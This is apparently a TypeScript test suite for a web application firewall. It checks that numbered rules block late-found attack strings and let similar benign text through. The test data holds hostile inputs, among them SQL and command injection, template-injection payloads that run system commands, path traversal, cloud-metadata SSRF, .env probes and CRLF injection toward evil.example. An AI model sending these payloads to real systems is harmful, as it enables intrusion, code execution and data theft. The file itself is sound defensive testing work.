// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the attacks have it
/** Forms of attacks that were found late, with what looks like them and is honest. */
import { matchedIds, send, sendJson, sendRequest, sites } from './test-support/send.ts';

describe('late forms', () => {
  it.each([
    [2001, '<link rel=attachment href="file:///srv/a">'],
    [2001, '<link rel=stylesheet href="data:,body{}">'],
    [3002, 'pages/home.aspx::$DATA'],
    [3005, '/sys/class/dmi/id/board_name'],
    [4003, '--use-askpass=/tmp/a'],
    [4003, '-o=/srv/www/b.php'],
    [4003, '+DDE("cmd";"/C calc";"x")'],
    [8002, '<%@ include file="/WEB-INF/a.xml" %>'],
    [8002, '<c:import url="http://evil.example/"/>'],
    [8003, "{{= global.process.mainModule.constructor._load('child_process') }}"],
    [8004, '% import os\n${os.system("uptime")}'],
    [8004, '\\immediate\\write18{uptime}'],
    [8005, '{% include "/etc/hostname" %}'],
    [11001, 'http:/\\169.254.169.254/latest'],
    [14004, '<sorted-set><dynamic-proxy><handler/></dynamic-proxy></sorted-set>'],
    [1006, "' or ''-'"],
    [1006, 'eve" or ""^"'],
    [12002, "' || this || '1'=='1"],
    [12002, "';it=new Date();do{now=new Date();}while(now-it<5000);"],
    [1002, "COPY staff FROM PROGRAM 'uptime'"],
    [1002, "copy staff from '/etc/group' with (format csv)"],
    [3001, '..././..././..././eetctc/group'],
    [8001, '[% 31 * 7 %]'],
    [8001, '{% 31*7 %}'],
    [8001, '[=31*7]'],
    [8001, '[% PERL %] print 1 [% END %]'],
    [1009, "4;attach '/srv/www/a.php' as a; create table a.b (c)"],
    [1009, '4;merge into parts using dual on (1=1) when matched then update set price=1'],
    [1010, '4 or not false'],
    [1010, '4 like 4'],
    [4007, 'pear;ps aux'],
    [4007, 'pear|ps -ef'],
    [4007, '$(<secret.txt)'],
    [7001, "system('uptime');//"],
    [7002, 'ftp://evil.example/a.php'],
    [15002, '/a\r\n Host:evil.example'],
    [15003, 'a\r\nSTLS\r\nUSER eve'],
    [20003, '";import os;os.system("uptime");#'],
    [20003, '%x(uptime)'],
  ])('%i stops %j', (id, value) => {
    expect(matchedIds(send(sites.medium, value))).toContain(id);
    expect(send(sites.medium, value).interruption).not.toBeNull();
  });

  it.each([
    [11001, '{"filter":{"http://169.254.169.254/latest":1}}'],
    [12001, '[{"$match":{}},{"$out":"people"}]'],
    [14002, '{"a":{"py/reduce":[1]}}'],
    [14002, '{"__pro__proto__to__":{"a":1}}'],
  ])('%i stops the name of a member in %s', (id, body) => {
    expect(matchedIds(sendJson(sites.medium, body))).toContain(id);
  });

  it.each(['/.env/', '/.env%20', '/.env.', '/.env;a', '/.env%3Fa', '/app/.env/%5C'])(
    '17001 stops %s',
    (target) => {
      expect(matchedIds(sendRequest(sites.medium, { target }))).toContain(17001);
    },
  );

  it.each(['/.environment', '/.env-guide', '/docs/the.env', '/env/'])('no rule stops %s', (target) => {
    expect(sendRequest(sites.medium, { target }).interruption).toBeNull();
  });

  it('7xxx stops PHP in an instruction of XML, wherever the document is stored', () => {
    const xml = (body: string) =>
      sendRequest(sites.medium, { headers: ['Content-Type', 'text/xml'], body }).interruption;
    expect(xml('<?xml version="1.0"?><a><?php system("uptime"); ?></a>')).not.toBeNull();
    expect(xml('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><a>php</a>')).toBeNull();
    expect(xml('<?xml version="1.0"?><?xml-stylesheet href="a.xsl" type="text/xsl"?><a/>')).toBeNull();
  });

  it.each([
    '<link rel="icon" href="data:,">',
    '[% INCLUDE header.tt %] Dear [% name %],',
    "We COPY the prices FROM a program of the supplier's",
    '[=] see below (7*7)',
    'and so on.../.../x',
    "The field is '' or '' in this case",
    "it's new; dates = new Date",
    '/var/log',
    '/bin/sh',
    'std::data',
    '--output=report.pdf',
    '{% include "header.html" %}',
    '=HYPERLINK("https://shop.example/p/"&A2,"open")',
    'sum(rate(http_requests_total{job="api"}[5m])) * (1 - 0.5)',
    `Unexpected token '<', "<!DOCTYPE "... is not valid JSON`,
    '<sorted-set><string>a</string></sorted-set>',
  ])('%j passes at low and medium', (value) => {
    for (const site of [sites.low, sites.medium]) expect(send(site, value).interruption).toBeNull();
  });
});
